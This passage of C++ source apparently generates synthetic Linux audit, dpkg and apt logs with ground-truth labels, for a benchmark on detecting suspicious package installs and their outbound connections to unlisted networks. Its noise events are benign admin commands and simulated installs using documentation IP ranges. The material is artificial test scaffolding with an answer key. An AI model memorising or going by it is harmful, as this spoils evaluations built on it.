    h.setTime(at(72 * Minute) + h.rng.between(0, 30 * Second));
    command(admin.shell, "/usr/bin/df", {"df", "-h"}, 15);
    sshLogout(admin);
    hourlyCron(77 * Minute);
    storyCFirstRun();
    h.setTime(at(120 * Minute) + h.rng.between(0, 60 * Second));
    Session again = sshLogin("admin", 1000, "10.20.4.21", 1);
    command(again.shell, "/usr/bin/free", {"free", "-m"}, 10);
    command(again.shell, "/usr/bin/ps", {"ps", "aux"}, 40);
    h.pause(3 * Minute, 6 * Minute);
    sshLogout(again);
    hourlyCron(137 * Minute);
    hourlyCron(197 * Minute);
    storyCEgress();
    periodicConnects(h.now());
    {
        // (d) came to the demo later, after (c) in time; see RandomStream.
        RandomStream own(h.rng, m_seed ^ 0x6e706d2d73746f72ULL);
        storyD();
        periodicConnects(h.now());
    }
}

// Benign events streamed between the story events: the ops user's commands (single and
// piped, forked from the ops shell), and the daemons' connects to approved hosts. Each
// event takes the next slot of an even grid over [from, to], so the stream needs no
// memory however long it is. Multi-event patterns only start when they fit, so exactly
// `count` events come out and no process is left half-created.
constexpr qint64 InstallEvents = 11;

class Noise
{
public:
    Noise(const Scenario &scenario, Random &random, qint64 count, qint64 installs, qint64 from, qint64 to);

    bool done() const { return m_emitted >= m_count; }
    qint64 nextTime() const { return m_nextTime; }
    qint64 emitted() const { return m_emitted; }
    void writeNext(AuditLogWriter &w);

private:
    struct Command
    {
        AuditTask task; // after the exec
        QList<AuditPathItem> items;
    };
    Command command(const Scenario &scenario, const QByteArray &path, const QList<QByteArray> &argv) const;
    qint64 newPid();
    // Event k goes somewhere in the k-th slot of the grid, so time never runs backwards.
    qint64 slotTime(qint64 k);
    void plan();
    void clone(AuditLogWriter &w, qint64 child);
    void exec(AuditLogWriter &w, Command &c, qint64 pid);
    void exit(AuditLogWriter &w, Command &c, qint64 pid);
    void connect(AuditLogWriter &w);
    void install(AuditLogWriter &w);

    Random &m_random;
    qint64 m_count;
    qint64 m_from;
    qint64 m_span;
    qint64 m_emitted = 0;
    qint64 m_nextTime = 0;
    qint64 m_nextPid = NoisePidBase;
    AuditTask m_shell;
    AuditTask m_timesyncd;
    AuditTask m_zabbix;
    QList<Command> m_singles;
    QList<QPair<int, int>> m_pipes; // indexes into m_singles: left | right
    // The pattern in progress: kind (1 single, 2 pipe), step, its commands and pids.
    int m_kind = 0;
    int m_step = 0;
    int m_first = 0;
    int m_second = 0;
    qint64 m_pidA = 0;
    qint64 m_pidB = 0;
    // Installs (kind 4): one starts at every m_installEvery-th event while any are left.
    qint64 m_installs = 0;
    qint64 m_installEvery = 0;
    qint64 m_nextInstallAt = 0;
    qint64 m_installNumber = 0;
    qint64 m_nextInode = 0x2f0000; // above the scenario's inodes
    Command m_installer;
    Command m_dpkg;
    Command m_tool;
    AuditPathItem m_usrBin;
};

Noise::Command Noise::command(const Scenario &scenario, const QByteArray &path, const QList<QByteArray> &argv) const
{
    Command c;
    c.task = m_shell;
    c.task.ppid = m_shell.pid;
    c.task.comm = baseName(path).left(15);
    c.task.exe = scenario.h.fs.resolve(path);
    c.task.argv = argv;
    for (const QByteArray &name : {path, QByteArray(LdSo)}) {
        AuditPathItem item;
        item.name = name;
        const FileInfo *info = scenario.h.fs.find(name);
        Q_ASSERT(info);
        item.inode = info->inode;
        item.mode = info->mode;
        c.items.append(item);
    }
    return c;
}

Noise::Noise(const Scenario &scenario, Random &random, qint64 count, qint64 installs, qint64 from, qint64 to)
    : m_random(random)
    , m_count(count)
    , m_from(from)
    , m_span(qMax<qint64>(to - from, 1))
    , m_shell(scenario.opsShell.t)
    , m_timesyncd(scenario.timesyncd.t)
    , m_zabbix(scenario.zabbix.t)
{
    const struct
    {
        const char *path;
        QList<QByteArray> argv;
    } commands[] = {
        {"/usr/bin/ls", {"ls", "-la"}},
        {"/usr/bin/ls", {"ls", "--color=auto", "/var/log/app"}},
        {"/usr/bin/cat", {"cat", "/etc/hostname"}},
        {"/usr/bin/grep", {"grep", "-c", "connection reset", "/var/log/app/app.log"}},
        {"/usr/bin/ps", {"ps", "aux"}},
        {"/usr/bin/df", {"df", "-h"}},
        {"/usr/bin/uptime", {"uptime"}},
        {"/usr/bin/git", {"git", "status", "--short"}},
        {"/usr/bin/tail", {"tail", "-n", "50", "/var/log/app/app.log"}},
        {"/usr/bin/find", {"find", ".", "-name", "*.log", "-mtime", "-1"}},
        {"/usr/bin/python3", {"python3", "manage.py", "check"}},
        {"/usr/bin/du", {"du", "-sh", "/srv/data"}},
        {"/usr/bin/free", {"free", "-m"}},
        {"/usr/bin/date", {"date", "+%F %T"}},
        {"/usr/bin/w", {"w"}},
        {"/usr/bin/journalctl", {"journalctl", "-u", "nginx", "--since", "1 hour ago"}},
        {"/usr/bin/grep", {"grep", "nginx"}},
        {"/usr/bin/wc", {"wc", "-l"}},
        {"/usr/bin/sort", {"sort", "-rn"}},
        {"/usr/bin/head", {"head", "-20"}},
    };
    for (const auto &c : commands)
        m_singles.append(command(scenario, c.path, c.argv));
    m_pipes = {{4, 16}, {2, 17}, {11, 18}, {8, 19}};
    // Each install is eleven events; no more than fit in the noise.
    m_installs = qBound<qint64>(0, installs, count / InstallEvents);
    if (m_installs > 0) {
        m_installEvery = count / m_installs;
        m_nextInstallAt = m_installEvery / 2;
        m_installer = command(scenario, "/usr/bin/apt-get", {});
        m_installer.task.setIds(0, 0); // the ops user's root shell (sudo -i)
        m_dpkg = command(scenario, "/usr/bin/dpkg", {});
        m_dpkg.task.setIds(0, 0);
        m_tool = m_installer;
        m_usrBin.name = QByteArrayLiteral("/usr/bin/");
        m_usrBin.inode = scenario.h.fs.find("/usr/bin")->inode;
        m_usrBin.mode = 040755;
        m_usrBin.nametype = QByteArrayLiteral("PARENT");
    }
    m_nextTime = slotTime(0);
}

qint64 Noise::slotTime(qint64 k)
{
    const qint64 count = qMax<qint64>(m_count, 1);
    const qint64 begin = m_from + k * m_span / count;
    const qint64 end = m_from + (k + 1) * m_span / count;
    return end > begin + 1 ? begin + m_random.between(0, end - begin - 1) : begin;
}

qint64 Noise::newPid()
{
    m_nextPid += m_random.between(1, 3);
    if (m_nextPid >= PidMax)
        m_nextPid = NoisePidBase + m_random.between(1, 50);
    return m_nextPid;
}

void Noise::plan()
{
    const qint64 left = m_count - m_emitted;
    const qint64 roll = m_random.between(1, 100);
    m_step = 0;
    if (m_installNumber < m_installs && m_emitted >= m_nextInstallAt && left >= InstallEvents) {
        m_kind = 4;
        m_nextInstallAt += m_installEvery;
        ++m_installNumber;
    } else if (left >= 6 && roll <= 12) {
        m_kind = 2;
        const auto &pipe = m_pipes.at(m_random.between(0, m_pipes.size() - 1));
        m_first = pipe.first;
        m_second = pipe.second;
    } else if (left >= 3 && roll <= 85) {
        m_kind = 1;
        m_first = int(m_random.between(0, m_singles.size() - 5)); // the last four only end pipes
    } else {
        m_kind = 3;
    }
}

void Noise::clone(AuditLogWriter &w, qint64 child)
{
    AuditSyscall call;
    call.number = AuditSyscallNr::Clone;
    call.exit = child;
    call.a0 = CloneFork;
    call.a3 = 0x7f3a9c1e2a10ULL + (quint64(m_random.next() % 0xfffff) << 12);
    call.key = QByteArrayLiteral("proc");
    w.syscall(call, m_shell);
    w.proctitle(m_shell.argv);
}

void Noise::exec(AuditLogWriter &w, Command &c, qint64 pid)
{
    c.task.pid = pid;
    AuditSyscall call;
    call.number = AuditSyscallNr::Execve;
    call.a0 = 0x55d3c0000000ULL + (m_random.next() % 0xffffff) * 16;
    call.a1 = call.a0 + 0x3a40;
    call.a2 = call.a0 + 0x9d80;
    call.a3 = 8;
    call.items = int(c.items.size());
    call.key = QByteArrayLiteral("exec");
    w.syscall(call, c.task);
    w.execve(c.task.argv);
    w.cwd(c.task.cwd);
    for (qsizetype i = 0; i < c.items.size(); ++i)
        w.path(int(i), c.items.at(i));
    w.proctitle(c.task.argv);
}

void Noise::exit(AuditLogWriter &w, Command &c, qint64 pid)
{
    c.task.pid = pid;
    AuditSyscall call;
    call.number = AuditSyscallNr::ExitGroup;
    call.returns = false;
    call.a1 = 0x3c;
    call.a2 = 0xe7;
    call.a3 = 0xffffffffffffff80ULL;
    call.key = QByteArrayLiteral("proc");
    w.syscall(call, c.task);
    w.proctitle(c.task.argv);
}

void Noise::connect(AuditLogWriter &w)
{
    const bool ntp = m_random.chance(30);
    AuditSyscall call;
    call.number = AuditSyscallNr::Connect;
    call.exit = ntp ? 0 : Einprogress;
    call.a0 = ntp ? 13 : 7;
    call.a1 = 0x7ffd10000000ULL + (m_random.next() % 0xffffff) * 16;
    call.a2 = 0x10;
    call.key = QByteArrayLiteral("egress");
    const AuditTask &task = ntp ? m_timesyncd : m_zabbix;
    w.syscall(call, task);
    w.sockaddrInet(ntp ? ipv4("192.0.2.123") : ipv4("192.0.2.20"), ntp ? 123 : 10051);
    w.proctitle(task.argv);
}

void Noise::writeNext(AuditLogWriter &w)
{
    if (m_step == 0)
        plan();
    w.beginEvent(m_nextTime);
    ++m_emitted;
    m_nextTime = slotTime(m_emitted);
    switch (m_kind) {
    case 1: // clone, exec, exit
        if (m_step == 0)
            clone(w, m_pidA = newPid());
        else if (m_step == 1)
            exec(w, m_singles[m_first], m_pidA);
        else
            exit(w, m_singles[m_first], m_pidA);
        m_step = m_step == 2 ? 0 : m_step + 1;
        break;
    case 2: // bash forks both sides of the pipe, each execs, both exit
        switch (m_step) {
        case 0:
            clone(w, m_pidA = newPid());
            break;
        case 1:
            clone(w, m_pidB = newPid());
            break;
        case 2:
            exec(w, m_singles[m_first], m_pidA);
            break;
        case 3:
            exec(w, m_singles[m_second], m_pidB);
            break;
        case 4:
            exit(w, m_singles[m_first], m_pidA);
            break;
        default:
            exit(w, m_singles[m_second], m_pidB);
            break;
        }
        m_step = m_step == 5 ? 0 : m_step + 1;
        break;
    case 4:
        install(w);
        m_step = m_step == InstallEvents - 1 ? 0 : m_step + 1;
        break;
    default:
        connect(w);
        m_step = 0;
        break;
    }
}

// Step m_step of install m_installNumber: the shell forks apt-get, apt-get forks dpkg,
// dpkg creates the binary, both exit; the shell forks the binary's first run, which
// connects and exits.
void Noise::install(AuditLogWriter &w)
{
    const QByteArray name = QByteArrayLiteral("benchpkg") + QByteArray::number(m_installNumber);
    const QByteArray binary = QByteArrayLiteral("/usr/bin/") + name;
    AuditSyscall call;
    switch (m_step) {
    case 0:
        clone(w, m_pidA = newPid());
        break;
    case 1:
        m_installer.task.argv = {"apt-get", "install", "-y", name};
        m_installer.task.ppid = m_shell.pid;
        exec(w, m_installer, m_pidA);
        break;
    case 2: // apt-get forks dpkg
        m_pidB = newPid();
        call.number = AuditSyscallNr::Clone;
        call.exit = m_pidB;
        call.a0 = CloneFork;
        call.key = QByteArrayLiteral("proc");
        w.syscall(call, m_installer.task);
        w.proctitle(m_installer.task.argv);
        break;
    case 3:
        m_dpkg.task.argv = {"/usr/bin/dpkg", "--status-fd", "35", "--unpack", "--auto-deconfigure",
            "/var/cache/apt/archives/" + name + "_1.0_amd64.deb"};
        m_dpkg.task.ppid = m_pidA;
        exec(w, m_dpkg, m_pidB);
        break;
    case 4: { // dpkg creates the binary
        AuditPathItem created;
        created.name = binary;
        created.inode = ++m_nextInode;
        created.mode = 0100755;
        created.nametype = QByteArrayLiteral("CREATE");
        call.number = AuditSyscallNr::Openat;
        call.exit = m_random.between(3, 6);
        call.a0 = AtFdcwd;
        call.a1 = 0x55d3c0000000ULL + (m_random.next() % 0xffffff) * 16;
        call.a2 = 0xc1;
        call.a3 = 0755;
        call.items = 2;
        call.key = QByteArrayLiteral("binwrite");
        w.syscall(call, m_dpkg.task);
        w.cwd(m_dpkg.task.cwd);
        w.path(0, m_usrBin);
        w.path(1, created);
        w.proctitle(m_dpkg.task.argv);
        m_tool.items = {created, m_installer.items.at(1)};
        m_tool.items[0].nametype = QByteArrayLiteral("NORMAL");
        break;
    }
    case 5:
        exit(w, m_dpkg, m_pidB);
        break;
    case 6:
        exit(w, m_installer, m_pidA);
        break;
    case 7:
        clone(w, m_pidA = newPid());
        break;
    case 8:
        m_tool.task.argv = {name, "--version"};
        m_tool.task.comm = name.left(15);
        m_tool.task.exe = binary;
        m_tool.task.ppid = m_shell.pid;
        exec(w, m_tool, m_pidA);
        break;
    case 9: {
        const bool unlisted = m_installNumber % 10 == 0;
        call.number = AuditSyscallNr::Connect;
        call.exit = Einprogress;
        call.a0 = 5;
        call.a1 = 0x7ffd10000000ULL + (m_random.next() % 0xffffff) * 16;
        call.a2 = 0x10;
        call.key = QByteArrayLiteral("egress");
        w.syscall(call, m_tool.task);
        w.sockaddrInet(unlisted ? ipv4("203.0.113.80") : ipv4("192.0.2.10"), 443);
        w.proctitle(m_tool.task.argv);
        break;
    }
    default:
        exit(w, m_tool, m_pidA);
        break;
    }
}

bool inApprovedNetwork(const QString &address)
{
    return address.startsWith(QLatin1String("192.0.2."));
}

bool writeFile(const QString &path, const QByteArray &data, QString *error)
{
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate) || f.write(data) != data.size()) {
        *error = QStringLiteral("cannot write %1: %2").arg(path, f.errorString());
        return false;
    }
    return true;
}

} // namespace

LinuxScenarioResult writeLinuxScenario(const QString &directory, const LinuxScenarioOptions &options)
{
    LinuxScenarioResult result;
    const QDir dir(directory);
    if (!dir.mkpath(QStringLiteral("."))) {
        result.error = QStringLiteral("cannot create directory %1").arg(directory);
        return result;
    }
    Random random(options.seed);
    Scenario scenario(options, random);
    scenario.build();
    QList<Pending> &pending = scenario.h.pending;
    std::sort(pending.begin(), pending.end(),
        [](const Pending &x, const Pending &y) { return x.time != y.time ? x.time < y.time : x.order < y.order; });

    const QString auditPath = dir.absoluteFilePath(QStringLiteral("audit.log"));
    AuditLogWriter writer(options.host.toUtf8());
    if (!writer.open(auditPath)) {
        result.error = QStringLiteral("cannot write %1: %2").arg(auditPath, writer.errorString());
        return result;
    }
    // The kernel's serials started at boot; some events came before auditd.
    writer.setNextSerial(random.between(180, 420));
    const qint64 lastStory = pending.last().time;
    Noise noise(scenario, random, options.noiseEvents, options.noiseInstalls,
        options.start.toMSecsSinceEpoch() + 4 * Minute, lastStory);
    QList<qint64> serials(pending.size());
    for (Pending &p : pending) {
        while (!noise.done() && noise.nextTime() < p.time)
            noise.writeNext(writer);
        if (p.daemonSequence >= 0)
            writer.beginDaemonEvent(p.time, quint32(p.daemonSequence));
        else
            writer.beginEvent(p.time);
        serials[p.order] = writer.currentSerial();
        p.write(writer);
    }
    while (!noise.done())
        noise.writeNext(writer);
    if (!writer.close()) {
        result.error = QStringLiteral("cannot write %1: %2").arg(auditPath, writer.errorString());
        return result;
    }
    result.files.append(auditPath);

    const QString dpkgPath = dir.absoluteFilePath(QStringLiteral("dpkg.log"));
    const QString historyPath = dir.absoluteFilePath(QStringLiteral("history.log"));
    if (!writeFile(dpkgPath, scenario.h.dpkgLog, &result.error)
        || !writeFile(historyPath, scenario.h.historyLog, &result.error))
        return result;
    result.files.append(dpkgPath);
    result.files.append(historyPath);

    // Ground truth: event ids become the serials they were written with.
    const auto serialOf = [&serials](qint64 id) {
        return serials.at(id);
    };
    for (LinuxScenarioStory &story : scenario.stories) {
        story.install.serial = serialOf(story.install.serial);
        for (LinuxScenarioExec &e : story.installDescendants)
            e.serial = serialOf(e.serial);
        for (LinuxScenarioConnect &c : story.installEgress) {
            c.serial = serialOf(c.serial);
            c.approved = inApprovedNetwork(c.address);
        }
        for (LinuxScenarioWrite &w : story.writes)
            w.serial = serialOf(w.serial);
        for (LinuxScenarioRun &run : story.firstRuns) {
            run.exec.serial = serialOf(run.exec.serial);
            for (LinuxScenarioExec &e : run.descendants)
                e.serial = serialOf(e.serial);
            for (LinuxScenarioConnect &c : run.egress) {
                c.serial = serialOf(c.serial);
                c.approved = inApprovedNetwork(c.address);
            }
        }
    }
    result.host = options.host;
    result.start = toDateTime(pending.first().time);
    result.end = toDateTime(lastStory);
    result.windowMinutes = 90;
    result.approvedUpdateHosts = {QStringLiteral("mirror.corp.example"), QStringLiteral("deb.debian.org"),
        QStringLiteral("security.debian.org"), QStringLiteral("npm.corp.example"), QStringLiteral("192.0.2.0/24")};
    result.unlistedNetworks = {QStringLiteral("203.0.113.0/24"), QStringLiteral("198.51.100.0/24")};
    result.stories = scenario.stories;
    result.auditEvents = writer.events();
    result.auditRecords = writer.records();
    result.noiseEvents = noise.emitted();
    result.auditBytes = writer.bytesWritten();
    return result;
}

} // namespace Chainscope
